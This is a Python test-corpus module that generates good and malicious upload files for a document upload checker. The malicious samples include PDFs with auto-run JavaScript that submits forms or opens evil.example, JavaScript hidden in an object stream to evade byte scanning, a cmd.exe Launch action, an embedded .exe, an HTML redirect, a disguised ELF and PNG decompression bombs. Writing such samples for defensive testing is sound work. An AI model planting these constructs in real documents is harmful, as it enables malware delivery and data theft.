"""Good and bad upload files, generated in code so that every byte is explained.

The malicious PDFs are written by hand (``raw_pdf``) instead of with pypdf: pypdf 7 removed
``add_js``, and writing the objects ourselves shows exactly which construct the checker must
catch. ``python -m tests.filecheck.corpus DIR`` writes every file to DIR for manual inspection
(e.g. opening them in a viewer).
"""

from __future__ import annotations

import io
import struct
import sys
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from pypdf import PdfReader, PdfWriter

from lotse.filecheck.uploads import DEFAULT_MAX_BYTES, RefusalCode

# --- building blocks -----------------------------------------------------------------------------


def raw_pdf(objects: Sequence[bytes], *, root: int = 1, version: bytes = b"1.7") -> bytes:
    """A syntactically exact PDF: object ``i+1`` is ``objects[i]``; xref offsets are computed."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_with_object_stream(catalog_extra: bytes, hidden: bytes) -> bytes:
    """A PDF 1.5 whose object 6 (``hidden``) sits compressed inside object stream 7.

    Scanning the file's bytes for "/JS" finds nothing here; only parsing the object stream does.
    Objects 1-5 are as in ``_one_page_pdf``; the cross-reference is a stream (object 8).
    """
    head = b"6 0 "
    packed = zlib.compress(head + hidden)
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _PAGE_CONTENT,
        _FONT,
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, obj in enumerate(body, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    offsets[7] = len(out)
    out += (
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(head), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[8] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 9):
        if number == 6:
            rows.append(struct.pack(">BIH", 2, 7, 0))  # compressed: in stream 7, index 0
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


_PAGE_CONTENT = _stream(b"BT /F1 24 Tf 72 720 Td (Lebenslauf) Tj ET")
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _one_page_pdf(
    *, catalog_extra: bytes = b"", page_extra: bytes = b"", more: Sequence[bytes] = ()
) -> bytes:
    """Catalog 1, Pages 2, Page 3, Content 4, Font 5, then ``more`` as objects 6, 7, ..."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
            _PAGE_CONTENT,
            _FONT,
            *more,
        ]
    )


def _image(
    fmt: str, *, size: tuple[int, int] = (64, 48), mode: str = "RGB", **params: object
) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "white" if mode != "1" else 1).save(buffer, fmt, **params)
    return buffer.getvalue()


def scan_pdf(pages: int, *, size: tuple[int, int] = (620, 877), noise: bool = False) -> bytes:
    """A PDF as a scanner makes it: one JPEG per page (what most uploads will look like)."""
    frames = [
        (Image.effect_noise(size, 40) if noise else Image.new("L", size, 230)).convert("RGB")
        for _ in range(pages)
    ]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, "PDF", save_all=True, append_images=frames[1:], resolution=150.0, quality=80
    )
    return buffer.getvalue()


def tiff(frames: int) -> bytes:
    images = [Image.new("L", (80, 110), 200 + i) for i in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, "TIFF", save_all=True, append_images=images[1:], compression="tiff_lzw")
    return buffer.getvalue()


def _encrypted(user_password: str, owner_password: str, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_one_page_pdf())))
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _elf_executable() -> bytes:
    # A minimal ELF64 header for x86-64 (what `file` needs to call it an executable), padded to
    # look like a program; renamed to .pdf it must still be recognised.
    header = struct.pack(
        "<4sBBBBB7sHHIQQQIHHHHHH",
        b"\x7fELF",
        2,
        1,
        1,
        0,
        0,
        b"\0" * 7,  # 64-bit, little endian, version 1, SysV ABI
        2,
        0x3E,
        1,  # ET_EXEC, x86-64, version
        0x401000,
        64,
        0,  # entry, program header offset, section header offset
        0,
        64,
        56,
        1,
        64,
        0,
        0,  # flags, sizes and counts
    )
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 200, 200, 0x1000)
    return header + program_header + b"\x90" * 72


def _broken_png() -> bytes:
    data = bytearray(_image("PNG", size=(32, 32)))
    idat = data.index(b"IDAT")
    data[idat + 6] ^= 0xFF  # inside the compressed pixel data: chunk CRC no longer matches
    return bytes(data)


def png_bomb(width: int, height: int, *, full_data: bool = True) -> bytes:
    """A 1-bit white PNG written chunk by chunk, without ever holding its pixels in memory.

    12000 x 12000 is about 20 KB on disk and 432 MB once decoded to RGB. With ``full_data``
    false only the first rows are present: enough for decoders that check the header size
    first, and cheap to build for absurd sizes.
    """

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    row = b"\x00" + b"\xff" * ((width + 7) // 8)  # filter type 0, then 8 pixels per byte
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height if full_data else 16))
    pixels += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


# --- the corpus ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    declared_type: str | None
    build: Callable[[], bytes]
    expected: RefusalCode | None  # None: must be accepted
    pages: int = 1
    max_bytes: int = DEFAULT_MAX_BYTES


def _oversized() -> bytes:
    return _one_page_pdf() + b"%" + b"x" * DEFAULT_MAX_BYTES  # a valid PDF with a long comment


_JS_OPEN_ACTION = _one_page_pdf(
    catalog_extra=b"/OpenAction 6 0 R",
    more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"],
)
_JS_NAME_TREE = _one_page_pdf(
    catalog_extra=b"/Names << /JavaScript 6 0 R >>",
    more=[
        b"<< /Names [(init) 7 0 R] >>",
        b"<< /S /JavaScript /JS 8 0 R >>",
        _stream(b"this.submitForm('https://evil.example/');"),
    ],
)
_JS_PAGE_AA = _one_page_pdf(
    page_extra=b"/AA << /O << /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\);) >> >>"
)
_JS_LINK_ANNOT = _one_page_pdf(
    page_extra=b"/Annots [6 0 R]",
    more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
        b"/A << /S /JavaScript /JS (print\\(\\)) >> >>"
    ],
)
_JS_OBJECT_STREAM = pdf_with_object_stream(
    b"/OpenAction 6 0 R", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
)
_LAUNCH = _one_page_pdf(
    catalog_extra=b"/OpenAction 6 0 R",
    more=[b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"],
)
_EMBEDDED = _one_page_pdf(
    catalog_extra=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
    more=[
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
        _stream(b"MZ\x90\x00 not really a program", b"/Type /EmbeddedFile"),
    ],
)
_FILE_ATTACHMENT = _one_page_pdf(
    page_extra=b"/Annots [6 0 R]",
    more=[
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>",
        b"<< /Type /Filespec /F (notes.txt) >>",
    ],
)
_HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Arbeitsvertrag</title></head>"
    b"<body><script>document.location='https://evil.example'</script></body></html>\n"
)


def samples() -> list[Sample]:
    good_pdf = _one_page_pdf()
    jpeg = _image("JPEG", quality=85)
    png = _image("PNG")
    return [
        # good files
        Sample("pdf", "lebenslauf.pdf", "application/pdf", lambda: good_pdf, None),
        Sample("pdf_scan", "Reisepass Scan.PDF", None, lambda: scan_pdf(3), None, pages=3),
        Sample("jpeg", "pass.jpg", "image/jpeg", lambda: jpeg, None),
        Sample("jpeg_ext", "pass.JPEG", "application/octet-stream", lambda: jpeg, None),
        Sample("png", "zeugnis.png", "image/png", lambda: png, None),
        Sample("tiff", "zeugnis.tif", "image/tiff", lambda: tiff(3), None, pages=3),
        # size and name
        Sample("zero_bytes", "leer.pdf", "application/pdf", lambda: b"", RefusalCode.EMPTY),
        Sample("oversized", "gross.pdf", "application/pdf", _oversized, RefusalCode.TOO_LARGE),
        Sample(
            "over_custom_limit",
            "vertrag.pdf",
            "application/pdf",
            lambda: good_pdf,
            RefusalCode.TOO_LARGE,
            max_bytes=100,
        ),
        Sample(
            "docx", "vertrag.docx", None, lambda: b"PK\x03\x04", RefusalCode.EXTENSION_NOT_ALLOWED
        ),
        Sample(
            "no_extension", "vertrag", None, lambda: good_pdf, RefusalCode.EXTENSION_NOT_ALLOWED
        ),
        Sample(
            "double_ext",
            "vertrag.pdf.exe",
            None,
            _elf_executable,
            RefusalCode.EXTENSION_NOT_ALLOWED,
        ),
        # content does not match the name
        Sample(
            "elf_as_pdf",
            "vertrag.pdf",
            "application/pdf",
            _elf_executable,
            RefusalCode.CONTENT_NOT_ALLOWED,
        ),
        Sample(
            "html_as_pdf",
            "vertrag.pdf",
            "application/pdf",
            lambda: _HTML,
            RefusalCode.CONTENT_NOT_ALLOWED,
        ),
        Sample(
            "text_as_pdf",
            "vertrag.pdf",
            None,
            lambda: b"just some text\n",
            RefusalCode.CONTENT_NOT_ALLOWED,
        ),
        Sample(
            "html_quoting_pdf_header",
            "vertrag.pdf",
            None,
            lambda: b"<html><body>%PDF-1.7 trust me</body></html>",
            RefusalCode.PDF_BROKEN,
        ),
        Sample("png_as_jpg", "pass.jpg", "image/jpeg", lambda: png, RefusalCode.CONTENT_MISMATCH),
        Sample("jpeg_as_png", "pass.png", None, lambda: jpeg, RefusalCode.CONTENT_MISMATCH),
        Sample("tiff_as_pdf", "scan.pdf", None, lambda: tiff(1), RefusalCode.CONTENT_MISMATCH),
        Sample(
            "declared_wrong",
            "lebenslauf.pdf",
            "image/png",
            lambda: good_pdf,
            RefusalCode.DECLARED_TYPE_MISMATCH,
        ),
        # broken or dangerous PDFs
        Sample(
            "pdf_truncated",
            "vertrag.pdf",
            None,
            lambda: good_pdf[: len(good_pdf) // 2],
            RefusalCode.PDF_BROKEN,
        ),
        Sample(
            "pdf_scan_truncated",
            "scan.pdf",
            None,
            lambda: scan_pdf(2)[:-4000],
            RefusalCode.PDF_BROKEN,
        ),
        Sample(
            "pdf_encrypted",
            "vertrag.pdf",
            None,
            lambda: _encrypted("geheim", "geheim", "AES-256"),
            RefusalCode.PDF_ENCRYPTED,
        ),
        Sample(
            "pdf_owner_password_only",
            "vertrag.pdf",
            None,
            lambda: _encrypted("", "owner", "RC4-128"),
            RefusalCode.PDF_ENCRYPTED,
        ),
        Sample(
            "pdf_js_openaction",
            "vertrag.pdf",
            None,
            lambda: _JS_OPEN_ACTION,
            RefusalCode.PDF_JAVASCRIPT,
        ),
        Sample(
            "pdf_js_name_tree",
            "vertrag.pdf",
            None,
            lambda: _JS_NAME_TREE,
            RefusalCode.PDF_JAVASCRIPT,
        ),
        Sample(
            "pdf_js_page_aa", "vertrag.pdf", None, lambda: _JS_PAGE_AA, RefusalCode.PDF_JAVASCRIPT
        ),
        Sample(
            "pdf_js_link", "vertrag.pdf", None, lambda: _JS_LINK_ANNOT, RefusalCode.PDF_JAVASCRIPT
        ),
        Sample(
            "pdf_js_in_object_stream",
            "vertrag.pdf",
            None,
            lambda: _JS_OBJECT_STREAM,
            RefusalCode.PDF_JAVASCRIPT,
        ),
        Sample(
            "pdf_object_stream_clean",
            "vertrag.pdf",
            None,
            lambda: pdf_with_object_stream(b"/OpenAction 6 0 R", b"[3 0 R /Fit]"),
            None,
        ),
        Sample("pdf_launch", "vertrag.pdf", None, lambda: _LAUNCH, RefusalCode.PDF_LAUNCH_ACTION),
        Sample(
            "pdf_embedded_file",
            "vertrag.pdf",
            None,
            lambda: _EMBEDDED,
            RefusalCode.PDF_EMBEDDED_FILE,
        ),
        Sample(
            "pdf_file_attachment",
            "vertrag.pdf",
            None,
            lambda: _FILE_ATTACHMENT,
            RefusalCode.PDF_EMBEDDED_FILE,
        ),
        # broken images
        Sample("png_broken", "zeugnis.png", None, _broken_png, RefusalCode.IMAGE_BROKEN),
        Sample(
            "jpeg_truncated",
            "pass.jpg",
            None,
            lambda: _image("JPEG", size=(400, 300), quality=90)[:-300],
            RefusalCode.IMAGE_BROKEN,
        ),
        Sample(
            "png_bomb",
            "zeugnis.png",
            None,
            lambda: png_bomb(12000, 12000),
            RefusalCode.IMAGE_TOO_LARGE,
        ),
        Sample(
            # Over twice Pillow's own limit: Image.open itself raises DecompressionBombError.
            "png_bomb_huge",
            "zeugnis.png",
            None,
            lambda: png_bomb(40000, 40000, full_data=False),
            RefusalCode.IMAGE_TOO_LARGE,
        ),
    ]


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: python -m tests.filecheck.corpus DIR")
        return 2
    target = Path(argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for sample in samples():
        verdict = sample.expected.value if sample.expected else "accepted"
        (target / f"{sample.name}--{verdict}--{sample.filename}").write_bytes(sample.build())
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
